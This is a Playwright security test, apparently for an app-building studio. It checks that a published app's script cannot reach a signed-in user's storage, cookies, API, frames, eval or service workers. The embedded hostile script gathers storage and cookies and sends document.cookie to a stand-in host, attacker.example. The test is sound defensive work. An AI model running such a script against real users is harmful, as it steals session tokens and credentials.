// Scripts and configuration of an app cannot access anything of the studio in a browser that is signed in to it.
import type { Page } from '@playwright/test';
import { call, type Tokens } from '../api.ts';
import { expect, test } from '../test.ts';
import { givenApp, type GivenApp } from './given-apps.ts';

/** Each way out as a function in the page; successful ones are listed in the page by name. */
const script = (studio: string) => `
const studio = ${JSON.stringify(studio)};
const answerOf = async (address, options) => {
  const response = await fetch(address, options);
  return response.ok ? 'answered ' + (await response.text()).slice(0, 80) : 'refused ' + response.status;
};
const post = (address, headers) => answerOf(address, {
  method: 'POST',
  credentials: 'include',
  headers: { 'content-type': 'application/json', ...headers },
  body: JSON.stringify({ query: '{ tenantSettings { tenantId } apps { totalCount } }' }),
});
const ways = {
  storage: async () => JSON.stringify({ ...localStorage, ...sessionStorage }),
  cookies: async () => document.cookie,
  'api of the studio': () => post(studio + '/graphql'),
  'api of its own host': () => post('/graphql'),
  'api as a guest': async () => {
    const { accessToken } = await (await fetch('/guest', { method: 'POST' })).json();
    return post('/graphql', { authorization: 'Bearer ' + accessToken });
  },
  'pages of the studio at its host': () => answerOf('/products'),
  metrics: () => answerOf('/metrics'),
  mailbox: () => answerOf('/dev/mailbox'),
  frame: () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = studio + '/login';
    frame.onload = () => {
      try { resolve('read ' + frame.contentWindow.document.title); } catch (error) { resolve('refused ' + error.name); }
    };
    frame.onerror = () => resolve('refused');
    document.body.append(frame);
  }),
  window: async () => {
    const opened = window.open(studio + '/login', '_blank');
    if (opened === null) return 'refused';
    await new Promise((resolve) => setTimeout(resolve, 500));
    try { return 'read ' + opened.localStorage.length; } catch (error) { return 'refused ' + error.name; } finally { opened.close(); }
  },
  eval: async () => 'ran ' + window['ev' + 'al']('1 + 1'),
  'script element': () => new Promise((resolve) => {
    const element = document.createElement('script');
    element.textContent = 'window.ranInline = true';
    document.head.append(element);
    setTimeout(() => resolve(window.ranInline ? 'ran' : 'refused'), 50);
  }),
  'script of the studio': () => new Promise((resolve) => {
    const element = document.createElement('script');
    element.src = studio + '/config.json';
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('refused');
    document.head.append(element);
  }),
  worker: async () => {
    const registration = await navigator.serviceWorker.register('/api/v1' + '/files/worker.js');
    return 'registered ' + registration.scope;
  },
  'other server': () => answerOf('https://attacker.example/?' + document.cookie),
};
export default {
  data: () => ({ reached: {}, isDone: false }),
  async mounted() {
    for (const [name, way] of Object.entries(ways)) {
      let reached;
      try { reached = await way(); } catch (error) { reached = 'refused ' + error.name; }
      this.$set(this.reached, name, reached);
    }
    this.isDone = true;
  },
};`;

async function publish(url: string, { accessToken }: Tokens, appId: string): Promise<void> {
  const create = `mutation ($input: createReleaseInput!) { createRelease(input: $input) { errors createdStatus { id } } }`;
  const input = { name: `Hostile ${appId}`, appIds: [appId] };
  const { createRelease } = (await call(url, create, { input }, accessToken)) as {
    readonly createRelease: { readonly errors: object; readonly createdStatus: { readonly id: string } | null };
  };
  if (createRelease.createdStatus === null) throw new Error(JSON.stringify(createRelease.errors));
  const publication = 'mutation ($id: String!) { publishRelease(releaseId: $id) { errors } }';
  await call(url, publication, { id: createRelease.createdStatus.id }, accessToken);
}

/** A public file that a worker could be created from if it were served as a script. */
async function givenWorkerFile(url: string, { accessToken }: Tokens): Promise<void> {
  const form = new FormData();
  form.set('file', new Blob(['self.onfetch = () => {}']), 'worker.js');
  const headers = { authorization: `Bearer ${accessToken}` };
  const response = await fetch(`${url}/api/v1/files`, { method: 'POST', headers, body: form });
  if (!response.ok) throw new Error(await response.text());
  const publication = 'mutation { setFileAcl(key: "worker.js", isPublic: true) { status errors } }';
  await call(url, publication, {}, accessToken);
}

async function changeScript(url: string, { accessToken }: Tokens, { componentId }: GivenApp, text: string) {
  const mutation = `mutation ($id: String!, $input: updateComponentInput!) {
    updateComponent(id: $id, input: $input) { status errors } }`;
  const input = { componentJsonString: JSON.stringify({ editorScript: text }) };
  await call(url, mutation, { id: componentId, input }, accessToken);
}

const template = `<main><h1>{{ isDone ? 'Done' : 'Busy' }}</h1>
  <dl><template v-for="(what, way) in reached"><dt :key="way">{{ way }}</dt><dd :key="way + '.'">{{ what }}</dd></template></dl></main>`;

async function readReached(page: Page): Promise<Record<string, string>> {
  const [names, values] = [page.getByRole('term'), page.getByRole('definition')];
  const [ways, reached] = [await names.allTextContents(), await values.allTextContents()];
  return Object.fromEntries(ways.map((way, at) => [way, reached[at] ?? '']));
}

test('scripts of a published app cannot access storage, token or operations of the signed-in user', async ({
  signedIn: { page, tokens },
  server,
}) => {
  const app = await givenApp(server.url, tokens, template);
  await changeScript(server.url, tokens, app, script(server.url));
  await publish(server.url, tokens, app.appId);
  await givenWorkerFile(server.url, tokens);
  // The same browser is signed in to the studio.
  await page.goto('/products');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem('studioToken'))).toBe(tokens.accessToken);
  const shop = await page.context().newPage();
  await shop.goto(`http://${app.host}:${new URL(server.url).port}/`);
  await expect(shop.getByRole('heading', { name: 'Done' })).toBeVisible({ timeout: 30_000 });
  const reached = await readReached(shop);
  expect(reached).toEqual({
    storage: '{}',
    cookies: '',
    'api of the studio': 'refused TypeError',
    'api of its own host': expect.stringMatching(/^refused 4\d\d$/),
    'api as a guest': expect.stringMatching(/^refused 4\d\d$/),
    'pages of the studio at its host': 'refused 404',
    metrics: 'refused 404',
    mailbox: 'refused 404',
    frame: expect.stringMatching(/^refused/),
    window: expect.stringMatching(/^refused/),
    eval: 'refused EvalError',
    'script element': 'refused',
    'script of the studio': 'refused',
    worker: expect.stringMatching(/^refused/),
    'other server': 'refused TypeError',
  });
});
